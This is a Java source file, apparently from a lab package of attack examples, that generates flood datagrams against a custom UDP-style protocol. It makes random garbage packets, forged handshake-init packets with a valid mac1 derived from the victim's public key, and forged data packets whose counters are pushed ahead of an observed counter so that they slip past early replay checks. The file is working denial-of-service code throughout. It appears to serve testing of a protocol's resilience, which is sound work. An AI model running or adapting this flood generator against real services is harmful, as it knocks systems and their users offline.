package io.aggr.examples.lab.attack;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.SplittableRandom;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Makes the datagrams of a flood, as somebody would who has read docs/protocol.md. */
final class FloodPayload {

    static final int MAX_BYTES = 400;

    private static final int LEAST_BYTES = 20;
    private static final int INIT = 1;
    private static final int VERSION = 1;
    private static final int SUITE_AES = 1;
    private static final int INIT_BYTES = 184;
    private static final int MAC1 = 152;
    private static final int MAC_BYTES = 16;
    private static final int DATA = 4;
    private static final int DATA_BYTES = 200;
    private static final int COUNTER = 6;

    /** As far as forged counters lie ahead of the one that was seen: what is not new would be dropped before it costs anything. */
    private static final int AHEAD = 1 << 24;

    private final FloodKind kind;
    private final SplittableRandom random;
    private final byte[] mac1Key;
    private final Observation seen;

    /**
     * Prepares to make datagrams.
     *
     * @param publicKey of the victim, in base64; for {@link FloodKind#INIT}
     * @param seen what was seen on a line; for {@link FloodKind#DATA}
     */
    FloodPayload(FloodKind kind, long seed, String publicKey, Observation seen) throws GeneralSecurityException {
        this.kind = kind;
        this.random = new SplittableRandom(seed);
        this.seen = seen;
        MessageDigest hash = MessageDigest.getInstance("SHA-256");
        hash.update("mac1".getBytes(StandardCharsets.US_ASCII));
        mac1Key = hash.digest(Base64.getDecoder().decode(publicKey));
    }

    /** The next datagram. */
    byte[] next() throws GeneralSecurityException {
        return switch (kind) {
            case GARBAGE -> random(random.nextInt(LEAST_BYTES, MAX_BYTES + 1));
            case INIT -> init();
            case DATA -> data();
        };
    }

    private byte[] random(int lengthBytes) {
        byte[] bytes = new byte[lengthBytes];
        for (int i = 0; i < lengthBytes; i++) {
            bytes[i] = (byte) random.nextInt();
        }
        return bytes;
    }

    private byte[] init() throws GeneralSecurityException {
        byte[] bytes = random(INIT_BYTES);
        bytes[0] = INIT;
        bytes[1] = VERSION;
        bytes[2] = SUITE_AES;
        bytes[3] = 0;
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(mac1Key, "HmacSHA256"));
        mac.update(bytes, 0, MAC1);
        System.arraycopy(mac.doFinal(), 0, bytes, MAC1, MAC_BYTES);
        // No mac2: nobody who lies about his address gets a cookie.
        for (int i = MAC1 + MAC_BYTES; i < INIT_BYTES; i++) {
            bytes[i] = 0;
        }
        return bytes;
    }

    private byte[] data() {
        byte[] bytes = random(DATA_BYTES);
        bytes[0] = DATA;
        bytes[1] = (byte) seen.line();
        ByteBuffer.wrap(bytes).putInt(2, seen.index()).putInt(COUNTER, seen.counter() + 1 + random.nextInt(AHEAD));
        return bytes;
    }
}
